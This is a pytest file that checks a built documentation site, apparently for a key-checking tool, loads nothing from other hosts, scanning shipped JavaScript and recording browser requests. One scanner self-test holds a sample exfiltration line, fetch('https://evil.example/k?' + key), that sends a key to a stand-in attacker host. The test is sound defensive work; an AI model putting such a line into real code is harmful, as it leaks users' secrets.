"""No other host: the built site loads every script, style, font, image, worker and fetch from
itself. Plain <a href> reading links to sources are fine; anything a page would load is not.

Two layers. Statically, every URL in the shipped JavaScript (Material's bundles, the vendored
Pyodide and noble files, our own) is checked; a URL in JavaScript code (not a comment) passes
only if it is listed below with the reason it is never requested. (HTML attributes and CSS are
scanned once, without a browser, in tests/docs/test_docs_site.py.) In the browser, what pages
actually request is recorded, worker included, while the checker runs.
"""

from __future__ import annotations

import base64
import json
import re

import pytest

pytestmark = pytest.mark.browser

READY_TIMEOUT_MS = 60_000

# (file glob under the site, URL prefix) -> why the code holding it never requests it here.
NEVER_REQUESTED = {
    ("assets/javascripts/bundle.*.min.js", "https://api.github.com/"):
        "Material's repository facts; only with repo_url on GitHub, and mkdocs.yml sets none.",
    ("assets/javascripts/bundle.*.min.js", "https://${e}/api/v4/projects/"):
        "Material's repository facts for GitLab; only with a GitLab repo_url, and none is set.",
    ("assets/javascripts/bundle.*.min.js", "https://unpkg.com/mermaid@"):
        "Material loads Mermaid only for a page with a mermaid diagram; no page has one.",
    ("assets/javascripts/bundle.*.min.js", "https://unpkg.com/resize-observer-polyfill"):
        "Only when the browser lacks ResizeObserver, which every supported browser has.",
    ("assets/javascripts/bundle.*.min.js", "https://clipboardjs.com/"):
        "clipboard.js's licence banner text, kept in the minified code as a string.",
    ("assets/javascripts/workers/search.*.min.js", "http://lunrjs.com"):
        "lunr's licence banner text.",
    ("assets/javascripts/workers/search.*.min.js", "http://tartarus.org/~martin/PorterStemmer/"):
        "lunr's credit for the Porter stemmer, in a string.",
    ("assets/javascripts/workers/search.*.min.js", "https://bit.ly/"):
        "lunr's warning message text, never fetched.",
    ("assets/pyodide/pyodide.mjs", "https://cdn.jsdelivr.net/pyodide/"):
        "Pyodide's default package CDN: used by loadPackage, which the checker never calls (its "
        "wheel is unpacked from this site); connect-src 'self' would block it anyway.",
    ("assets/pyodide/pyodide.asm.mjs", "https://${t}"):
        "Pyodide's socket emulation for Node.js (connect()); browsers never take this path.",
}

JS_URL = re.compile(r"""https?://[^\s"'`)<>\\]+""")


def _in_comment(text: str, at: int) -> bool:
    """Is position `at` inside a // line comment or a /* block comment */? (Good enough for
    the readable vendored files; the minified ones have their URLs listed explicitly.)"""
    line_start = text.rfind("\n", 0, at) + 1
    before = text[line_start:at]
    if re.search(r"(^|[\s;{}(,])//", before) or before.lstrip().startswith("*"):
        return True
    return text.rfind("/*", 0, at) > text.rfind("*/", 0, at)


def _whitelisted(relative: str, url: str) -> bool:
    from fnmatch import fnmatch
    return any(fnmatch(relative, pattern) and url.startswith(prefix)
               for (pattern, prefix) in NEVER_REQUESTED)


def test_javascript_holds_no_url_to_another_host_outside_comments_and_the_list(site):
    scripts = sorted([*site.dir.rglob("*.js"), *site.dir.rglob("*.mjs")])
    names = {path.relative_to(site.dir).as_posix() for path in scripts}
    for expected in ("assets/pyodide/pyodide.mjs", "assets/pyodide/pyodide.asm.mjs",
                     "assets/vendor/noble-ciphers/chacha.js", "assets/checker/worker.js"):
        assert expected in names, f"{expected} is not in the site: the scan would miss it"
    assert any(name.startswith("assets/javascripts/bundle.") for name in names)
    offenders, used = [], set()
    for path in scripts:
        relative = path.relative_to(site.dir).as_posix()
        text = path.read_text("utf-8", errors="replace")
        for match in JS_URL.finditer(text):
            url = match.group(0)
            if _whitelisted(relative, url):
                used |= {key for key in NEVER_REQUESTED if url.startswith(key[1])}
            elif not _in_comment(text, match.start()):
                offenders.append(f"{relative}: {url[:100]}")
    assert offenders == [], "URLs to other hosts in shipped JavaScript code:\n" + "\n".join(offenders)
    # Every entry of the list still matches something: no stale reason stays behind.
    assert set(NEVER_REQUESTED) == used, f"stale entries: {set(NEVER_REQUESTED) - used}"


def test_the_scanner_catches_a_url_in_code_not_in_a_comment():
    code = 'const a = 1; // see https://example.org/doc\nfetch("https://evil.example/k?" + key);'
    urls = [(m.group(0), _in_comment(code, m.start())) for m in JS_URL.finditer(code)]
    assert urls == [("https://example.org/doc", True), ('https://evil.example/k?', False)]


# --- what the browser actually requests -------------------------------------------------------

def test_the_checker_requests_nothing_from_another_host(open_page, check_key, site):
    watched = open_page("/checker/")
    page = watched.page
    key = base64.b64encode(json.dumps({"subscription": "standard", "signature": "c2lnbmF0dXJl" * 20}).encode()).decode()
    assert check_key(page, key)["status"] == "ok"
    page.locator("[data-simulator-run]").click()
    page.locator("[data-simulator] [data-simulator-outcome]").wait_for()
    page.locator("[data-keyfile-input]").set_input_files(
        files=[{"name": "glpicrypt.key", "mimeType": "application/octet-stream", "buffer": bytes(range(32))}])
    page.fill("[data-keyfile-value]", base64.b64encode(bytes(64)).decode())
    page.locator("[data-keyfile-decrypt]").click()
    page.wait_for_selector("[data-keyfile-decrypt-result] *")
    page.locator("[data-checker-input]").blur()
    page.keyboard.press("/")                  # Material's shortcut: the search worker and its index
    page.keyboard.type("glpicrypt")
    page.wait_for_selector(".md-search-result__item", timeout=10_000)
    page.wait_for_load_state("networkidle")
    assert any("/assets/pyodide/pyodide.asm.wasm" in url for url in watched.requests)  # the worker's fetches are seen
    assert [url for url in watched.requests if not url.startswith(site.url)] == []
